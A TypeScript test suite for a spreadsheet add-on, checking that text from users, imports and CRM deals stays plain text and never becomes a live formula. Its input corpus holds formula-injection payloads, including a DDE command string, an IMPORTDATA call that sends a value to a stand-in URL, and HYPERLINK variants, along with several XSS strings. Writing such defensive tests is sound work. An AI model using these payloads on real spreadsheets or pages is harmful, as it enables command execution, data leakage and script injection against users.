/** Text from outside stays text: whatever somebody types, uploads or is sent, no cell becomes a formula of theirs. */
import { snapshot } from '../host/snapshot';
import { describeSlow } from './cuts';
import { openTable, type Table } from './table';

/** Every text carries this word: where it stands in a formula outside a quoted text, the formula is theirs. */
const WORD = 'zlo';
const LONG = `=${WORD}()${'я'.repeat(480)}`;
const CORPUS: readonly string[] = [
  ...[
    `=${WORD}+1`,
    `+${WORD}(1)`,
    `-${WORD}(1)+1`,
    `@${WORD}(1)`,
    `\t=${WORD}`,
    `\r=${WORD}`,
    `\n=${WORD}`,
    `'=${WORD}`,
  ],
  ...[`=${WORD}&HYPERLINK("http://${WORD}.example";"жми")`, `=IMPORTXML(${WORD};"//a")`, `=IMAGE(${WORD})`],
  ...[
    `=cmd|'/C calc'!${WORD}`,
    `-2+3+cmd|'/C calc'!${WORD}`,
    `=IMPORTDATA(CONCATENATE("http://x/?v=";${WORD}))`,
    `==${WORD}`,
  ],
  ...[
    `<script>${WORD}()</script>`,
    `<img src=x onerror=${WORD}()>`,
    `javascript:${WORD}()`,
    `"><svg onload=${WORD}()>`,
  ],
  ...[
    `O'${WORD} "кавычки" \`''`,
    `"";=${WORD}`,
    `🙂‮${WORD}‬ عربى`,
    `${WORD}\u0000\u2028конец`,
    `{=${WORD}}`,
    `＝${WORD}`,
  ],
];
/** Names of sources differ by more than the spaces around them, and there are forty at most. */
const NAMES = [...new Map(CORPUS.map((text) => [text.trim().replace(/^'/, '').toLowerCase(), text])).values()];
const YESTERDAY = '2026-11-21';
const dayAt = (index: number): string => `2026-11-${String(1 + (index % 20)).padStart(2, '0')}`;

interface Cell {
  readonly place: string;
  readonly value: unknown;
  readonly formula: string;
}
const cellsOf = (table: Table): Cell[] =>
  snapshot(table.host).sheets.flatMap(({ name, values, formulas }) =>
    values.flatMap((row, r) =>
      row.map((value, c) => ({ place: `${name}!${r + 1}:${c + 1}`, value, formula: formulas[r]?.[c] ?? '' })),
    ),
  );
/** A formula without its quoted texts and quoted titles of sheets. */
const bare = (formula: string): string => formula.replace(/"(?:[^"]|"")*"/g, '""').replace(/'(?:[^']|'')*'!/g, 'X!');
const theirs = (table: Table): Cell[] =>
  cellsOf(table).filter(({ formula }) => bare(formula).toLowerCase().includes(WORD));
const texts = (table: Table): ReadonlySet<string> =>
  new Set(cellsOf(table).flatMap(({ value, formula }) => (formula === '' ? [String(value).trim()] : [])));
/** The texts that no cell holds as they were given; spaces around them, and an apostrophe before them, may go. */
const missing = (table: Table, given: readonly string[]): string[] => {
  const found = texts(table);
  return given.filter((text) => !found.has(text.trim()) && !found.has(text.replace(/^'/, '').trim()));
};
function expectTexts(table: Table, given: readonly string[]): void {
  expect(theirs(table)).toEqual([]);
  expect(missing(table, given)).toEqual([]);
}

describeSlow('text from outside stays text', () => {
  const table = openTable();
  table.ask('createTable', NAMES.slice(0, 6));
  const event = (text: string, index: number) => ({ day: dayAt(index), event: text, was: '' });

  it('as names of sources, people, managers and own rows', () => {
    expectTexts(table, NAMES.slice(0, 6));
    table.ask('addSources', NAMES.slice(6, 12));
    table.ask('applySettings', {
      sources: NAMES.slice(0, 12).map((name) => ({ name, direction: name, segment: name })),
      ...{ people: CORPUS, managers: NAMES, criteria: CORPUS },
      ...{ ownNames: { leads: CORPUS[0], held: CORPUS[16] }, ownRows: [{ id: 'own:1', name: CORPUS[9] }] },
      specialWeeks: CORPUS.slice(0, 5).map((reason, at) => ({ week: `2026-W1${at}`, reason })),
      norms: [{ metric: 'showUp', source: NAMES[0], from: '2026-W30', reason: CORPUS[8] }],
    });
    expectTexts(table, NAMES);
  });

  it('as words about days, typed in the sidebar, undone and brought back', () => {
    table.ask('chooseWho', CORPUS[8]);
    table.ask('saveDays', { cells: [], events: CORPUS.slice(0, 20).map(event) });
    expectTexts(table, CORPUS.slice(0, 20));
    table.ask('undoLast');
    table.ask('undoLast');
    expectTexts(table, CORPUS.slice(0, 20));
  });

  it('as sources, words and names of imported files', () => {
    const records = NAMES.map((source, index) => ({ day: dayAt(index), source, values: { leads: 1 }, event: source }));
    const choices = CORPUS.map((name) => ({ format: 'csv', name: name.trim() || 'x', source: NAMES[0] }));
    for (const text of [...CORPUS.slice(0, 3), LONG])
      table.ask('applyImport', { fileName: text, records, overwrite: true, choices });
    expectTexts(table, NAMES);
    expect(texts(table).size).toBeGreaterThan(0);
    table.ask('applyImport', { fileName: LONG, records: [{ ...records[0], day: YESTERDAY }], overwrite: true });
    expect([...texts(table)].some((text) => text.includes(LONG))).toBe(true);
  });

  it('as everything that a deal of a CRM says, counted by manager, replaced and taken back', () => {
    const deals = CORPUS.map((text, at) => ({
      ...{ id: `${text}${at}`, created: dayAt(at), source: NAMES[0], segment: text, manager: text.trim(), stage: text },
      ...{ lostOn: YESTERDAY, lostAt: text, lostFor: text, disqualifiedFor: text, qualified: false },
      stages: [{ name: text, from: text }],
    }));
    for (const given of [deals, deals.map((deal) => ({ ...deal, amount: 5, lostFor: `${deal.lostFor}!` }))]) {
      const staged = table.ask<string>('beginDeals', given.length);
      table.ask('stageDeals', { batch: staged, deals: given });
      table.ask('applyImport', { fileName: 'crm.csv', records: [], overwrite: true, staged });
    }
    table.ask('countManagers', { overwrite: true });
    expectTexts(table, CORPUS);
    table.ask('undoLast');
    table.ask('undoLast');
    table.ask('undoLast');
    expectTexts(table, CORPUS);
  });

  it('as hypotheses, decisions and reasons', () => {
    const trial = { metric: 'showUp', start: YESTERDAY, weeks: 4, expected: 0.1 };
    for (const [at, text] of CORPUS.entries()) {
      const own = { belief: text, cause: text, action: text, owner: text, source: NAMES[0], manager: text };
      if (at % 4 === 0) table.ask('addHypothesis', { ...trial, ...own });
      if (at % 4 === 1) table.ask('addDecision', { what: text, owner: text, due: YESTERDAY, cause: text });
      if (at % 4 === 2 && at < 20) table.ask('markWeek', { week: `2026-W2${at % 10}`, reason: text });
    }
    const [belief = '', what = ''] = CORPUS;
    const decided = { decision: 'drop', reason: CORPUS[10], learned: CORPUS[11] };
    table.ask('decideHypothesis', { id: 1, seen: { belief }, ...decided });
    table.ask('answerDecision', {
      id: 1,
      seen: { what, reason: '', until: 'до 21\u00A0ноября' },
      carried: { reason: CORPUS[8], due: '2026-11-30' },
    });
    table.ask('acceptNorm', { metric: 'leads', source: NAMES[1], from: '2026-W40', reason: LONG });
    expectTexts(table, [LONG.slice(0, 400)].slice(1));
  });

  it('in all that the add-on says from it: reports, agenda, a kept month, a repaired table', () => {
    for (const call of [
      'meetingFromMenu',
      'hypothesesFromMenu',
      'managersFromMenu',
      'funnelFromMenu',
      'economicsFromMenu',
    ])
      table.run(call);
    for (const call of ['goalFromMenu', 'reviewFromMenu', 'keepMonthFromMenu', 'createFromMenu']) table.run(call);
    table.ask('noteConstraint');
    expectTexts(table, NAMES);
    expect(table.host.ui.alerts.map(({ prompt }) => prompt).filter((said) => said.includes('сломалось'))).toEqual([]);
  });
});
